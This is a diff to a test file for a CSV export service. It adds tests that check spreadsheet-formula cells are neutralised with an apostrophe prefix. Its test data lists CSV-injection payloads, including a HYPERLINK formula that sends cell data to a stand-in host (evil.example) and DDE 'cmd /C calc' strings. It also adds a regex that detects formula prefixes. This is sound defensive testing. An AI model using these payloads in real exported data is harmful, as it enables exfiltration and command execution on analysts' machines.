@@ -2,7 +2,7 @@
 // row, permissions (bearer or signed link), and a client that goes away stops the reading.
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { EXPORT_COLUMNS } from '../../src/services/export-weekly-reports.js';
+import { csvHeader, EXPORT_COLUMNS, exportWeeklyReportsCsv } from '../../src/services/export-weekly-reports.js';
 import { expectErrorCode, expectNoGraphQLErrors, startTestApi, type TestApi } from '../kit/api.js';
 import { seedTeam, type TeamScenario } from '../kit/scenarios.js';
 
@@ -50,6 +50,68 @@ describe('CSV quoting', () => {
       interviews: '',
     });
     expect(text).toContain('"Zoë ""Zed"", Ødegård"');
+  });
+});
+
+describe('spreadsheet formulas (CSV injection)', () => {
+  // What employees may type, and what the analyst's spreadsheet must show as text, not run.
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&B2&C2,"open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t-2+3+cmd|' /C calc'!A0",
+    '\r=1+1',
+    '\n+1',
+    '   =1+1',
+    '＝1+1',
+    '-2+3',
+    "'=already quoted",
+  ];
+  const HARMLESS = ['Closed the quarter', '2 hires, -1 attrition', 'a=b', 'mail me@home'];
+  let userId: number;
+  beforeAll(async () => {
+    [{ id: userId }] = (await api.db.sql.query<{ id: number }>(
+      `INSERT INTO users (email, name, city, country, updated_at) VALUES ('=cmd@example.com', '+Mallory', '@Lyon', 'FR', now()) RETURNING id`,
+    )) as [{ id: number }];
+    const texts = [...HOSTILE, ...HARMLESS];
+    for (const [i, text] of texts.entries()) {
+      const week = `2024-W${String(i + 10).padStart(2, '0')}`;
+      await api.db.sql.query(
+        `INSERT INTO weekly_reports (user_id, week, workdays, stress_level, highlights, blockers, updated_at) VALUES ($1, $2, 4, 6, $3, $3, now())`,
+        [userId, week, text],
+      );
+    }
+  });
+
+  /** Each of the user's rows as the analyst's CSV parser reads it. */
+  async function exported(sql = api.db.sql) {
+    const chunks: string[] = [csvHeader()];
+    for await (const chunk of exportWeeklyReportsCsv(sql, { from: '2024-W10', to: '2024-W30' })) chunks.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
+    return rowsOf(chunks.join('')).filter((row) => Number(row.user_id) === userId);
+  }
+
+  // CI runs on PostgreSQL, where the export is COPY; without `copyOut` the same client takes the other path.
+  it.each([
+    ['COPY (PostgreSQL)', () => api.db.sql],
+    ['rows quoted by csv-stringify (PGlite)', () => ({ ...api.db.sql, copyOut: undefined })],
+  ])('prefixes every text cell a spreadsheet would run with an apostrophe: %s', async (_path, client) => {
+    const rows = await exported(client());
+    expect(rows).toHaveLength(HOSTILE.length + HARMLESS.length);
+    for (const row of rows) {
+      expect(row).toMatchObject({ name: "'+Mallory", email: "'=cmd@example.com", city: "'@Lyon", country: 'FR', workdays: '4', stress_level: '6' });
+      expect(row.report_id).toMatch(/^\d+$/);
+      expect(row.week).toMatch(/^2024-W\d\d$/);
+    }
+    const cells = rows.map((row) => row.highlights);
+    expect(cells).toEqual([...HOSTILE.map((text) => `'${text}`), ...HARMLESS]);
+    expect(rows.map((row) => row.blockers)).toEqual(cells);
+    // Nothing left that a spreadsheet would take for a formula.
+    for (const cell of cells) expect(cell).not.toMatch(/^[\s\u3000]*[=+\-@＝＋－＠]|^[\t\r\n]/);
+  });
+
+  it('does the same over the route', async () => {
+    const { text } = await download('?from=2024-W10&to=2024-W30', await bearer(team.adminId));
+    const rows = rowsOf(text).filter((row) => Number(row.user_id) === userId);
+    expect(rows.map((row) => row.highlights)).toEqual([...HOSTILE.map((t) => `'${t}`), ...HARMLESS]);
   });
 });
 
